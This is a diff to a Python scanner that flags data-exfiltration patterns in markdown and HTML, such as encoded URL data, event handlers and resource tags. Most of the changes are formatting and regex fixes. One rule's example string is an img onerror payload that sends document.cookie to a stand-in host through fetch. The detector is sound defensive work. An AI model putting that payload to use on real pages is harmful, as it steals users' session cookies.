@@ -81,7 +81,7 @@ HTML_EVENT_HANDLER = _rule(
     0.9,
     "An HTML tag with an `on*=` event-handler attribute (`onerror`, `onload`, `onmouseover` ...): "
     "script that runs without a `<script>` tag.",
-    '<img src=x onerror="fetch(\'//x.example/\'+document.cookie)">',
+    "<img src=x onerror=\"fetch('//x.example/'+document.cookie)\">",
 )
 HTML_RESOURCE = _rule(
     "exfil.html_resource",
@@ -141,8 +141,8 @@ RULES: tuple[RuleInfo, ...] = (
 _URL = r"<?([^\s()<>]+(?:\([^\s()<>]*\)[^\s()<>]*)?)>?"
 _TITLE = r"(?:[ \t]+(?:\"[^\"\r\n]*\"|'[^'\r\n]*'|\([^)\r\n]*\)))?"
 _SPECS: tuple[Staged, ...] = (
-    Staged("md_image", r"!\[", rf"!\[([^\]\r\n]{*})\][ \t]*\([ \t]*{_URL}{_TITLE}[ \t]*\)"),
-    Staged("md_link", r"\]\(", rf"(?:^|[^!\\\]])(\[[^\]\r\n]{*}\][ \t]*\([ \t]*{_URL}{_TITLE}[ \t]*\))"),
+    Staged("md_image", r"!\[", rf"!\[([^\]\r\n]*)\][ \t]*\([ \t]*{_URL}{_TITLE}[ \t]*\)"),
+    Staged("md_link", r"\]\(", rf"(?:^|[^!\\\]])(\[[^\]\r\n]*\][ \t]*\([ \t]*{_URL}{_TITLE}[ \t]*\))"),
     Staged(
         "md_refdef",
         r"\]:",
@@ -164,14 +164,56 @@ _SCRIPT_END = re.compile(r"</script\s*>", re.IGNORECASE)
 _CTRL_WS = re.compile(r"[\x00-\x20\x7f]+")
 _B64ISH = re.compile(r"^[A-Za-z0-9+/_\-]{20,}={0,2}$")
 _HEX = re.compile(r"^[0-9a-fA-F]{32,}$")
-_ACTIVE_DATA = ("text/html", "application/xhtml+xml", "image/svg+xml", "text/javascript", "application/javascript",
-                "application/x-javascript", "text/xml", "application/xml", "text/vbscript")
+_ACTIVE_DATA = (
+    "text/html",
+    "application/xhtml+xml",
+    "image/svg+xml",
+    "text/javascript",
+    "application/javascript",
+    "application/x-javascript",
+    "text/xml",
+    "application/xml",
+    "text/vbscript",
+)
 _RESOURCE_ATTRS = frozenset({"src", "srcset", "poster", "background", "data", "href", "lowsrc", "dynsrc", "xlink:href"})
-_RESOURCE_TAGS = frozenset({"img", "image", "video", "audio", "source", "track", "input", "link", "body", "table",
-                            "td", "picture", "svg", "use"})
+_RESOURCE_TAGS = frozenset(
+    {
+        "img",
+        "image",
+        "video",
+        "audio",
+        "source",
+        "track",
+        "input",
+        "link",
+        "body",
+        "table",
+        "td",
+        "picture",
+        "svg",
+        "use",
+    }
+)
 _FRAME_TAGS = frozenset({"iframe", "frame", "frameset", "object", "embed", "portal", "applet"})
-_URL_ATTRS = frozenset({"href", "src", "action", "formaction", "xlink:href", "data", "poster", "background", "srcset",
-                        "lowsrc", "dynsrc", "content", "to", "from", "values"})
+_URL_ATTRS = frozenset(
+    {
+        "href",
+        "src",
+        "action",
+        "formaction",
+        "xlink:href",
+        "data",
+        "poster",
+        "background",
+        "srcset",
+        "lowsrc",
+        "dynsrc",
+        "content",
+        "to",
+        "from",
+        "values",
+    }
+)
 
 
 def _entropy(s: str) -> float:
@@ -206,7 +248,9 @@ def url_carries_data(url: str) -> str | None:
             return f"sentence in {where}"
         stem = v.rsplit(".", 1)[0] if where == "path" else v
         if _B64ISH.match(stem) and _entropy(stem) >= 3.5:
-            classes = sum((any(c.islower() for c in stem), any(c.isupper() for c in stem), any(c.isdigit() for c in stem)))
+            classes = sum(
+                (any(c.islower() for c in stem), any(c.isupper() for c in stem), any(c.isdigit() for c in stem))
+            )
             if classes >= 3 or (where == "query" and classes >= 2 and len(stem) >= 24):
                 return f"encoded {where} value"
         if where == "query" and _HEX.match(v):
@@ -265,7 +309,7 @@ class ExfilScanner:
         refdefs: dict[str, tuple[int, int, str]] = {}
         refimgs: list[tuple[int, int, str]] = []
         image_spans: list[tuple[int, int]] = []
-        for m in self._set.finditer(text):
+        for m in self._set.finditer(doc):
             if m.key == "md_image":
                 image_spans.append((m.start, m.end))
                 s, e = m.group_spans[2]
@@ -355,13 +399,17 @@ class ExfilScanner:
             for attr, value in attrs:
                 if attr not in _RESOURCE_ATTRS or (attr == "href" and name != "link"):
                     continue
-                url = html.unescape(value).strip().split(" ", 1)[0] if attr == "srcset" else html.unescape(value).strip()
+                url = (
+                    html.unescape(value).strip().split(" ", 1)[0] if attr == "srcset" else html.unescape(value).strip()
+                )
                 host = _host_of(url)
                 if host is None or self._allowed(host) or ("://" not in url and not url.startswith("//")):
                     continue
                 reason = url_carries_data(url)
                 if reason:
-                    out.append(_Hit(HTML_RESOURCE, start, end, f"<{name} {attr}> URL carries data ({reason}) to {host}"))
+                    out.append(
+                        _Hit(HTML_RESOURCE, start, end, f"<{name} {attr}> URL carries data ({reason}) to {host}")
+                    )
                     break
                 if urlsplit(url).query:
                     out.append(
